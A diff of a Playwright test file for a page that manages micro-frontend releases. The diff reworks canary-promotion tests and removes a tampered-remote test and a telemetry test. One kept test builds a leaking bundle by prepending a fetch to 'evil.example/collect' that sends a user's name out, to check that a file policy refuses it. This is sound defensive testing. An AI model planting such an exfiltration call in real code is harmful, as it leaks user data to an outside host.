@@ -108,7 +108,7 @@ test('takes a bad version back for everybody: the page shows it, and another tab
   await expect(header(secondPage, 'Index')).toBeVisible()
 })
 
-test('tries a version out with some, and with nobody any more', async ({ page, open, own }) => {
+test('tries a version out with some, and gives it to everybody', async ({ page, open, own }) => {
   const before = readPointer(own.releases, 'masterdata').current
   releaseRemote(own.releases, 'masterdata', '1.0.1-tried')
   await open('/remotes')
@@ -118,11 +118,11 @@ test('tries a version out with some, and with nobody any more', async ({ page, o
   await question(page).getByRole('button', { name: 'Set the canary' }).click()
   await expect(remote(page, 'masterdata')).toContainText(`Canary ${before.version} for 25 %`)
   expect(readPointer(own.releases, 'masterdata').canary?.percent).toBe(25)
-  await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
-  await question(page).getByLabel('Percent').fill('0')
-  await question(page).getByRole('button', { name: 'Set the canary' }).click()
+  await confirm(page, 'Promote', 'masterdata', 'Release to everybody')
+  await expect(toast(page, `masterdata is ${before.version} for everybody, instead of 1.0.1-tried`)).toBeVisible()
   await expect(remote(page, 'masterdata')).not.toContainText('Canary')
-  expect(readPointer(own.releases, 'masterdata').canary).toBeUndefined()
+  const { current, canary } = readPointer(own.releases, 'masterdata')
+  expect([current.version, canary]).toEqual([before.version, undefined])
 })
 
 test('tries a published version alone, in a banner that stops it or releases it to everybody', async ({ page, open, own, browser }) => {
@@ -154,25 +154,6 @@ test('tries a published version alone, in a banner that stops it or releases it 
   await page.getByRole('button', { name: 'Release to everybody' }).click()
   await expect(banner).toHaveCount(0)
   expect(readPointer(own.releases, 'masterdata')).toMatchObject({ current: { version: trial.version }, previous: { version: before.version } })
-  await rollBack(page)
-})
-
-test('gives a canary to everybody', async ({ page, open, own }) => {
-  const before = readPointer(own.releases, 'masterdata').current
-  const canary = releaseCanary(own.releases, 'masterdata', '1.0.1-canary', inGerman)
-  await open('/remotes')
-  await expect(remote(page, 'users').getByRole('button', { name: 'Promote users' })).toHaveCount(0)
-  await confirm(page, 'Promote', 'masterdata', 'Release to everybody')
-  await expect(toast(page, `masterdata is ${canary.version} for everybody, instead of ${before.version}`)).toBeVisible()
-  await expect(remote(page, 'masterdata')).toContainText(`${canary.version}Before it ${before.version}`)
-  await expect(remote(page, 'masterdata')).not.toContainText('Canary')
-  const pointer = readPointer(own.releases, 'masterdata')
-  expect(pointer).toMatchObject({ enabled: true, current: canary, previous: before })
-  expect(pointer.canary).toBeUndefined()
-  expect(pointer.served).toEqual(expect.arrayContaining([before.version, canary.version]))
-  await page.goto('/#/master/religion')
-  await expect(header(page, 'Nr.')).toBeVisible()
-  await page.goto('/#/remotes')
   await rollBack(page)
 })
 
@@ -237,19 +218,6 @@ test.describe('while something fails', () => {
     await rollBack(page)
   })
 
-  test('a remote that was tampered with stands under the last failures', async ({ page, open }) => {
-    await page.route(/\/releases\/users\/[^/]+\/remoteEntry/, (route) =>
-      route.fulfill({ contentType: 'text/javascript', body: 'window.evil = true' }),
-    )
-    const told = awaitResponse(page, telemetry.report)
-    await open('/users/all')
-    await expect(page.getByRole('main').getByRole('alert')).toContainText('App Users is not available')
-    expect((await told).status()).toBe(200)
-    await page.goto('/#/remotes')
-    await expect(remote(page, 'users')).toContainText('Failed')
-    await seeFailure(page, 'Members team', /is not the one that was released.*remoteEntry.*users 1\.0\.0-/)
-  })
-
   test('the page of remotes names the remote whose file the policy refuses', async ({ page, open, own }) => {
     const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
     releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
@@ -284,15 +252,5 @@ test.describe('while something fails', () => {
     await page.getByRole('button', { name: 'Retry' }).click()
     await expect(page.getByRole('heading', { name: 'Failures' })).toBeVisible()
     await expect(page.getByRole('alert')).toHaveCount(0)
-  })
-
-  test('a report that does not arrive says nothing to anybody', async ({ page, open }) => {
-    await intercept(page, telemetry.report, (route) => route.fulfill({ status: 401, json: { message: 'Please sign in again' } }))
-    await open('/remotes')
-    await expect(remote(page, 'users')).toBeVisible()
-    expect(await sendReport(page)).toBe(401)
-    await page.getByRole('button', { name: 'Refresh' }).click()
-    await expect(remote(page, 'users')).toBeVisible()
-    await expect(question(page)).toHaveCount(0)
   })
 })
